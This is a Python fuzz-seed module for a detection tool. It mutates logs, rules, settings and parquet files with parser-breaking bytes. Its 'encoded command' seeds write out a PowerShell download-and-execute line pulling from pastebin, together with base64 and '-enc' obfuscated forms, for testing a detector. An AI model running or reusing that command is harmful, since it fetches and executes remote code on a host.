"""Files nearly as they should be: seeds of every kind, cut, spliced, repeated and salted."""

import base64
import io
import random
import struct
from functools import cache

import polars as pl
from asim_rows import SESSIONS
from beside_rows import ANSWERED, PLANNED, STARTED
from export_shapes import SHAPES
from exports import lines as json_lines
from rows import HOSTILE, PLAIN, frame
from sysmon_events import SHIPPERS, shipped
from test_read_zeek import LOGS, as_json, as_tsv, records
from windows_records import FEW

from beacon import history
from beacon.rules.kql import has_pattern

SALT: tuple[bytes, ...] = (
    b"\0", b"\xff\xfe", b"\xef\xbb\xbf", b"\xc3(", b"\xed\xa0\x80", b'"', b"'", b",", b"\r", b"\n",
    b"{", b"}", b"[", b"]" * 50, b"[" * 2_000, b"null", b"NaN", b"-1", b"1e999", b"9" * 400,
    b"1601-01-01T00:00:00Z", b"9999-12-31T23:59:59.9999999Z", b"2026-10-25T02:30:00",
    b"2026-06-30T23:59:60Z", b"0000-00-00", b"Timestamp", b"DeviceName", b"PAR1", b"PK\3\4",
    b"\x1f\x8b\x08", b"\x28\xb5\x2f\xfd", b'{"Timestamp": ', b"True", b"\\u0000", b"\\ud800",
    *(text.encode("utf-8") for text in HOSTILE if len(text) < 60),
)  # fmt: skip
"""What breaks parsers: NULs, half characters, deep nesting, impossible dates, magic numbers."""

KINDS = 6


def mutate(content: bytes, random: random.Random, edits: int, other: bytes = b"") -> bytes:
    """The bytes after some edits: one of cut, salt, flip, repeat, end early, splice each."""
    data = bytearray(content)
    for _ in range(edits):
        at = random.randrange(len(data) + 1)
        upto = min(len(data), at + random.choice((1, 1, 8, 80, 800)))
        kind = random.randrange(KINDS)
        if kind == 0:
            del data[at:upto]
        elif kind == 1:
            data[at:at] = random.choice(SALT)
        elif kind == 2 and at < len(data):
            data[at] = random.randrange(256)
        elif kind == 3:
            data[at:at] = data[at:upto] * random.choice((1, 2, 50))
        elif kind == 4:
            del data[at:]
        else:
            start = random.randrange(len(other) + 1)
            data[at:upto] = other[start : start + random.choice((1, 8, 80, 800))]
    return bytes(data)


@cache
def seeds(target: str) -> tuple[bytes, ...]:
    """Sound inputs of a target, to be spoilt."""
    if target in ("read", "read and score", "inspect"):
        logs = (shipped(shipper, FEW) for shipper in SHIPPERS)
        return (
            *(case.content for case in SHAPES.values()),
            *logs,
            json_lines([STARTED, ANSWERED, PLANNED]),
            *(write(records(log)).encode() for log in LOGS for write in (as_tsv, as_json)),
            json_lines(SESSIONS),
        )
    if target == "rule":
        needles = ("t.me", "raw.githubusercontent.com", "-x", "é.com", "İ", has_pattern("a.b"))
        return tuple(f"https://a.{n}/b_{n}-c\n{n}".encode() for n in needles)
    if target == "timing":
        series = ([30.0 * i for i in range(40)], [0.0] * 9, [1e-9, 1.0, 1e14], [-1e14, 0, 5e-324])
        return tuple(struct.pack(f"<{len(times)}d", *times) for times in series)
    if target == "encoded command":
        plain = "iex (iwr https://pastebin.com/raw/x)"
        literal = base64.b64encode(plain.encode()).decode()
        wide = base64.b64encode(plain.encode("utf-16-le")).decode()
        inner = f"iex [Convert]::FromBase64String('{literal}')", f"powershell -enc {wide}"
        return tuple(text.encode(c) for text in (plain, *inner) for c in ("utf-16-le", "ascii"))
    if target == "verdicts":
        head = "alert_id,host,process,domain,verdict,reason,analyst,labelled_at"
        return (f'{head}\n7cc034afb0a3,h,p,d,TruePositive,"a ""b""",me,now\n'.encode(),)
    if target == "result":
        found = frame(PLAIN)
        lines, binary = io.BytesIO(), io.BytesIO()
        found.write_ndjson(lines)
        found.write_parquet(binary)
        return lines.getvalue(), binary.getvalue()
    if target == "settings":
        return (
            b'[rank]\nbudget = 10\nbase_rate = 0.01\n[read]\ntimezone = "UTC"\n'
            b'[[allow.entry]]\nhost = "h"\nprocess = "p"\nreason = "r"\nowner = "o"\n'
            b"expires = 2027-01-01\n",
        )
    assert target == "history"
    ledger = io.BytesIO()
    pl.DataFrame(schema=history.CHANNELS).drop("day").write_parquet(ledger)
    return (ledger.getvalue(),)
